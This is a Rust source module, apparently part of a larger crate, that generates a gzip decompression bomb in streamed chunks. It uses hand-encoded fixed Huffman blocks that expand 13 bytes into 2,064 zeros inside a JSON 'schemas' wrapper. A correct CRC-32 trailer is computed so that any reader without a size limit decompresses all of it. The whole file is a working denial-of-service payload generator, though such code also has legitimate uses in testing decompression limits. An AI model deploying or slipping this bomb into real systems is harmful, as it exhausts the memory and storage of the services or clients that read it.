//! A gzip bomb made by hand: fixed Huffman codes (RFC 1951 section 3.2.6), in which 13 bytes unpack to 2,064.
//!
//! It is sound to its last byte, checksum included, so that a reader without a limit swallows all of it.

/// A match of 258 zeros takes 13 bits, so eight of them take 13 whole bytes wherever they begin.
const MATCH_BYTES: u64 = 258;
const MATCHES_PER_BLOCK: u64 = 8;
const BLOCK_BYTES: u64 = MATCH_BYTES * MATCHES_PER_BLOCK;

const BLOCKS_PER_CHUNK: u64 = 1024;

const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
const PREFIX: &[u8] = b"{\"schemas\":[\"";
const FILLER: u8 = b'0';
const SUFFIX: &[u8] = b"\"]}";

/// The file in pieces. Unpacked it is JSON of `bytes` bytes, rounded up by less than 3,000.
pub(crate) fn gzip_bomb(bytes: u64) -> impl Iterator<Item = Vec<u8>> + Send {
    let mut left = bytes.div_ceil(BLOCK_BYTES);
    let mut bits = Bits::default();
    let mut check = Check::default();
    let blocks = BlockCheck::new();
    bits.whole = GZIP_HEADER.to_vec();
    bits.put(0b011, 3); // the last block, of fixed codes
    for byte in PREFIX.iter().chain([&FILLER]) {
        bits.literal(*byte);
        check.byte(*byte);
    }
    let mut ended = false;
    std::iter::from_fn(move || {
        if ended {
            return None;
        }
        let now = left.min(BLOCKS_PER_CHUNK);
        left = left.saturating_sub(now);
        for _ in 0..now {
            (0..MATCHES_PER_BLOCK).for_each(|_| bits.longest_match());
            blocks.advance(&mut check);
        }
        if left == 0 {
            ended = true;
            for byte in SUFFIX {
                bits.literal(*byte);
                check.byte(*byte);
            }
            bits.end();
            bits.whole.extend((!check.crc).to_le_bytes());
            bits.whole.extend(check.length.to_le_bytes());
        }
        Some(std::mem::take(&mut bits.whole))
    })
}

/// Bits, the lowest first.
#[derive(Default)]
struct Bits {
    whole: Vec<u8>,
    pending: u32,
    count: u32,
}

impl Bits {
    fn put(&mut self, value: u32, width: u32) {
        self.pending |= value << self.count;
        self.count = self.count.saturating_add(width);
        while self.count >= 8 {
            self.whole.extend(self.pending.to_le_bytes().first());
            self.pending >>= 8;
            self.count = self.count.saturating_sub(8);
        }
    }

    /// Huffman codes go highest bit first.
    fn code(&mut self, code: u8) {
        self.put(u32::from(code.reverse_bits()), 8);
    }

    fn literal(&mut self, ascii: u8) {
        self.code(0x30_u8.saturating_add(ascii));
    }

    fn longest_match(&mut self) {
        self.code(0b1100_0101); // length 258
        self.put(0, 5); // distance 1
    }

    fn end(&mut self) {
        self.put(0, 7); // end of block
        self.put(0, 7); // fills the last byte
    }
}

/// CRC-32 and length, as gzip's trailer has them.
struct Check {
    crc: u32,
    length: u32,
}

impl Default for Check {
    fn default() -> Self {
        Self { crc: u32::MAX, length: 0 }
    }
}

impl Check {
    fn byte(&mut self, byte: u8) {
        self.crc = crc_byte(self.crc, byte);
        self.length = self.length.wrapping_add(1);
    }
}

fn crc_byte(crc: u32, byte: u8) -> u32 {
    (0..8).fold(crc ^ u32::from(byte), |crc, _| if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 })
}

/// The checksum over a whole block at once: each bit of the state has its own share in the state that follows.
struct BlockCheck {
    of_zero: u32,
    of_bits: Vec<u32>,
}

impl BlockCheck {
    fn new() -> Self {
        let after = |state| (0..BLOCK_BYTES).fold(state, |crc, _| crc_byte(crc, FILLER));
        let of_zero = after(0);
        Self { of_zero, of_bits: (0..u32::BITS).map(|bit| after(1 << bit) ^ of_zero).collect() }
    }

    fn advance(&self, check: &mut Check) {
        let shares = self.of_bits.iter().zip(0..).filter(|(_, bit)| check.crc >> bit & 1 == 1);
        check.crc = shares.fold(self.of_zero, |crc, (share, _)| crc ^ share);
        check.length = check.length.wrapping_add(BLOCK_BYTES as u32);
    }
}
